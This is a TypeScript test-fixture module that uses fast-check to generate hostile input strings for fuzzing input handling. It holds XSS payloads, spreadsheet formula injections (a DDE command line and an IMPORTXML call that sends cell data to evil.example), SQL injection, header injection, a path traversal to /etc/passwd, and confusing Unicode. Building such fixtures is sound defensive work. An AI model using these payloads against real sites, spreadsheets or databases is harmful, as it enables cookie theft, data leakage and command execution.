import fc from 'fast-check';

/** Markup that would do something: what it makes has the attribute `data-hostile`, what it runs says so, what it loads is of another origin. */
const markup = [
  `<img data-hostile src=x onerror="globalThis.hostile=1">`,
  '<script data-hostile>globalThis.hostile=1;alert(1)</script>',
  '</script><script data-hostile>alert(document.cookie)</script>',
  '<svg data-hostile onload=alert(1)>',
  '"><iframe data-hostile src="//evil.example/x"></iframe>',
  `'"--></style></textarea></title><b data-hostile>`,
  '<a data-hostile href="javascript:alert(1)">press me</a>',
  '<link data-hostile rel=stylesheet href=//evil.example/x.css>',
  '<style data-hostile>*{display:none}</style>',
  '<base data-hostile href=//evil.example/>',
  '<meta data-hostile http-equiv=refresh content="0;url=//evil.example">',
  '<form data-hostile action=//evil.example><input autofocus onfocus=alert(1)>',
  '<math><mi data-hostile xlink:href="data:x,<script>alert(1)</script>">',
  '&lt;img data-hostile src=x onerror=alert(1)&gt;',
  '&#60;script data-hostile&#62;alert(1)&#60;/script&#62;',
  '<<b data-hostile>b>',
  '<!-- <b data-hostile> ]]>',
  '![x](//evil.example/x.png) [y](javascript:alert(1))',
  'javascript:alert(1)//',
  `{{constructor.constructor('alert(1)')()}}`,
  '$' + '{alert(1)} #{alert(1)} <%= 7*7 %>',
];
/** What a spreadsheet would calculate, or run. */
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u{feff}=1+1', '\u{200b}-1'],
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1"', ';=1+1', ',=1+1', '","=1+1', 'a;"=1+1"', 'a\n@SUM(1)', 'a\t+1'],
  '=HYPERLINK("http://evil.example";"press me")',
  `=cmd|' /C calc'!A0`,
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
];
/** Writing that goes the other way, stands above and below its line, or cannot be seen. */
const writing = [
  ...[
    '\u{202e}txt.exe',
    '\u{2067}unclosed',
    '\u{202d}\u{202e}\u{2066}',
    'שלום עולם (1)',
    'مرحبا، كيف الحال؟',
    'abc שלום 123 def',
  ],
  `Z${'\u{0301}\u{0323}\u{035c}\u{0489}\u{0336}'.repeat(6)}algo${'\u{0300}\u{0316}\u{034f}'.repeat(8)}`,
  '\u{0300}\u{0301} begins with marks',
  ...[
    '👩‍👩‍👧‍👦🏴‍☠️🇪🇸',
    '\u{1f1ea}',
    '\u{fe0f}\u{200d}',
    '\u{200b}\u{200b}',
    '\u{ad}\u{2060}',
    '\u{feff}',
    '\u{3000}\u{2028}\u{2029}',
  ],
  'Electroencefalografista-otorrinolaringológico-desoxirribonucleótidos-contrarrevolucionariamente',
  'esternocleidomastoideo'.repeat(4),
  '﷽﷽﷽',
  '𒐫𒐫𒐫𒐫',
];
/** What programs take for something else than a text. */
const programs = [
  ...[
    '\\0',
    '%00',
    '\\u0000',
    '\u{2400}',
    '\u{fffd}',
    '\u{1}\u{7f}',
    '\u{1b}[31mred',
    'a\u{8}\u{8}b',
    '\r\n\r\nSet-Cookie: a=b',
  ],
  ...[
    'null',
    'undefined',
    'NaN',
    '[object Object]',
    '__proto__',
    'constructor',
    'toString',
    'true',
    '(none)x',
    '1e999',
    '0x41',
  ],
  `'; DROP TABLE customers; --`,
  '%s%n%d {0} $1 \\1',
  '../../../../etc/passwd',
  '{"kind":"email","value":"x"}',
  "O'Brien \\' \\\" \\\\",
];

const longest = 190;
const part = fc.oneof(...[markup, formulas, writing, programs].map((texts) => fc.constantFrom(...texts)));
const between = fc.constantFrom('', ' ', '\n', '\t', ';', ' · ', '"', "'", '\u{202e}', '‏');
const text = fc
  .tuple(part, between, part)
  .map((parts) => parts.join(''))
  .filter((whole) => whole.length <= longest && whole.trim() !== '');

/** So many texts of people who mean harm or write as nobody expected, each another; the same for the same number. */
export const hostileTexts = (count: number): string[] => {
  const drawn = new Set<string>();
  for (let seed = 1; drawn.size < count; seed += 1)
    for (const one of fc.sample(text, { numRuns: count, seed })) if (drawn.size < count) drawn.add(one);
  return [...drawn];
};
